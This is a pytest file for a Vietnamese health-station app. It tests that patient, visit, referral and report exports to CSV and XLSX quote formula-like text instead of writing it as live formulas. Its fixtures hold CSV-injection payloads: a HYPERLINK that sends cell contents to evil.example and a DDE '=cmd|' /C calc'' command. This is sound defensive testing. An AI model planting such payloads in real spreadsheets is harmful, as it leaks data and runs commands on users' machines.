"""No list Trạm writes runs a formula in the spreadsheet that opens it: an address, a village, a
complaint or a reason typed (or imported) as ``=HYPERLINK(…)``, ``=cmd|' /C calc'!A0``, ``+…``,
``-…``, ``@…``, or after a tab or a carriage return, is written to every CSV as text (``'=…``)
and to every XLSX as a string, never a formula. Numbers stay numbers. Each export is read back."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from station_app.cli import main
from station_app.domain import table_import as ti
from station_app.domain.accounts import ANYONE
from station_app.domain.monthly import Month
from station_app.domain.spreadsheet import FORMULA_STARTS, csv_rows, inert_text, open_book
from station_app.reports import exports, monthly, monthly_export, worklist_export
from station_app.store import open_store
from station_app.store.bulk_import import Rejected, apply
from station_app.store.followups import work_rows

TODAY = dt.date(2025, 11, 20)
HOSTILE = {
    "address": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "village": "=cmd|' /C calc'!A0",
    "occupation": "+1+2",
    "notes": "-2+3",
    "guardian_name": "\t=1+1",
}
VISIT_TEXT = {"complaint": "=1+1", "treatment": "@SUM(A1:A9)", "diagnosis_text": "\r=2+2"}
REFERRAL_TEXT = {"to_facility": "+Bệnh viện", "reason": "=HYPERLINK(\"x\")", "diagnosis": "-Tăng huyết áp"}
EVERY_HOSTILE = {*HOSTILE.values(), *VISIT_TEXT.values(), *REFERRAL_TEXT.values()}


@pytest.fixture
def hostile(demo_copy: Path) -> Path:
    """The demo station with formula-like text in every kind of text field an export writes
    (as an import of a hostile spreadsheet would have left it)."""
    store = open_store(demo_copy)
    try:
        with store.write(ANYONE):  # (test set-up, as a hostile import would have left it)
            sets = ", ".join(f"{column} = ?" for column in HOSTILE)
            store.conn.execute(f"UPDATE patients SET {sets}", tuple(HOSTILE.values()))
            sets = ", ".join(f"{column} = ?" for column in VISIT_TEXT)
            store.conn.execute(f"UPDATE visits SET {sets}", tuple(VISIT_TEXT.values()))
            sets = ", ".join(f"{column} = ?" for column in REFERRAL_TEXT)
            store.conn.execute(f"UPDATE referrals SET {sets}", tuple(REFERRAL_TEXT.values()))
            store.conn.execute("UPDATE station SET name = ?", ("=HYPERLINK(\"http://evil.example\")",))
    finally:
        store.close()
    return demo_copy


def csv_cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))


def assert_no_formula_start(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would read as a formula: every text cell that starts like one is
    quoted, and the only cells starting with "-" are numbers."""
    for row in rows:
        for cell in row:
            if cell.startswith("-"):
                float(cell)  # a negative number written as a number, not text
            else:
                assert not cell.startswith(FORMULA_STARTS), (cell, row)


def test_inert_text_quotes_only_what_starts_a_formula():
    for text in ("=1+1", "+84 912", "-x", "@A1", "\t=1", "\r=1"):
        assert inert_text(text) == "'" + text
    for text in ("Nguyễn Thị Hương", "0912345678", "'=already quoted", "a=b", "", "1-2"):
        assert inert_text(text) == text
    written = io.BytesIO()
    csv_rows(written, ["n", "t"], [[-5, "-5"]], exports.cell_text)
    number, text = written.getvalue().decode("utf-8-sig").splitlines()[1].split(",")
    assert number == "-5"  # a number stays a number
    assert text == "'-5"  # text that looks like one is text


@pytest.mark.parametrize("what", ["patients", "visits", "followups", "referrals"])
def test_every_csv_export_writes_formula_text_as_text(hostile, tmp_path, what):
    out = tmp_path / f"{what}.csv"
    assert main(["export", "--db", str(hostile), "--what", what, "--format", "csv", "--out", str(out),
                 "--from", "2020-01-01", "--to", "2025-11-20"] if what in ("visits", "referrals") else
                ["export", "--db", str(hostile), "--what", what, "--format", "csv", "--out", str(out)]) == 0
    rows = csv_cells(out)
    assert len(rows) > 2
    assert_no_formula_start(rows)
    quoted = {cell[1:] for row in rows for cell in row if cell.startswith("'")}
    assert quoted and quoted <= EVERY_HOSTILE  # the hostile texts, kept whole behind the quote
    if what == "patients":
        assert set(HOSTILE.values()) <= quoted


@pytest.mark.parametrize("what", ["patients", "visits", "followups", "referrals"])
def test_every_xlsx_export_writes_strings_never_formulas(hostile, tmp_path, what):
    out = tmp_path / f"{what}.xlsx"
    store = open_store(hostile)
    try:
        exports.export(store, what, out, "xlsx", today=TODAY)
    finally:
        store.close()
    found = set()
    for row in load_workbook(out).active.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str) and cell.value in EVERY_HOSTILE:
                found.add(cell.value)
    assert found


def test_the_registry_csv_imports_back_with_the_text_as_typed(hostile, tmp_path):
    out = tmp_path / "patients.csv"
    store = open_store(hostile)
    try:
        exports.export(store, "patients", out, "csv")
    finally:
        store.close()
    table = ti.read_table(open_book(out), 0)
    preview = ti.build_preview(table, ti.suggest_mapping(table.headers, remembered={}), "patients", TODAY)
    target = open_store(tmp_path / "new.sqlite3")
    try:
        apply(target, preview)
        row = target.query("SELECT address, village, occupation, notes FROM patients LIMIT 1")[0]
    finally:
        target.close()
    assert row == {key: HOSTILE[key] for key in ("address", "village", "occupation", "notes")}


def test_the_work_list_exports_of_nhac_hen(hostile, tmp_path):
    store = open_store(hostile)
    try:
        rows = work_rows(store, TODAY)
        assert rows
        written = worklist_export.write_csv(store, rows, tmp_path / "list.csv", TODAY)
        workbook = worklist_export.write_xlsx(store, rows, tmp_path / "list.xlsx", TODAY)
    finally:
        store.close()
    cells = csv_cells(written)
    assert_no_formula_start(cells)
    assert all("'" + HOSTILE["village"] in row for row in cells[1:])
    book = load_workbook(workbook)
    values = [cell for row in book.active.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in values)
    assert HOSTILE["village"] in {cell.value for cell in values}


def test_the_monthly_report_workbook_has_no_formula(hostile, tmp_path):
    store = open_store(hostile)
    try:
        summary, _status = monthly.current(store, Month(2025, 10))
    finally:
        store.close()
    path = monthly_export.write(tmp_path / "month.xlsx", monthly_export.xlsx_bytes(summary, "draft"))
    book = load_workbook(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert '=HYPERLINK("http://evil.example")' in {cell.value for cell in cells}


def test_the_rejected_rows_of_an_import(tmp_path):
    rejected = [Rejected(-1, "address", "=HYPERLINK(\"x\")"), Rejected(4, "village", "+cmd")]
    rows = csv_cells(exports.write_rejected(rejected, tmp_path / "rejected.csv"))
    assert_no_formula_start(rows)
    assert rows[1] == ["-1", "address", "'=HYPERLINK(\"x\")"]  # the row number stays a number


def test_workbooks_leave_out_characters_a_workbook_cannot_hold(demo_copy: Path, tmp_path: Path) -> None:
    """Control characters (pasted into a form, left by an imported sheet) in a village, a
    station name: the workbooks still come out, without them, never a failure with a log entry."""
    store = open_store(demo_copy)
    try:
        with store.write(ANYONE):  # (test set-up, as a hostile import would have left it)
            store.conn.execute("UPDATE patients SET village = ?", ("Thôn\x01 Đông\x0b",))
            store.conn.execute("UPDATE station SET name = ?", ("Trạm\x00 Y tế\x1f",))
        rows = work_rows(store, TODAY)
        workbook = worklist_export.write_xlsx(store, rows, tmp_path / "list.xlsx", TODAY)
        summary, _status = monthly.current(store, Month(2025, 10))
    finally:
        store.close()
    month = monthly_export.write(tmp_path / "month.xlsx", monthly_export.xlsx_bytes(summary, "draft"))
    values = {cell.value for row in load_workbook(workbook).active.iter_rows() for cell in row}
    assert "Thôn Đông" in values
    values = {cell.value for sheet in load_workbook(month).worksheets for row in sheet.iter_rows() for cell in row}
    assert any(isinstance(v, str) and "Trạm Y tế" in v for v in values)
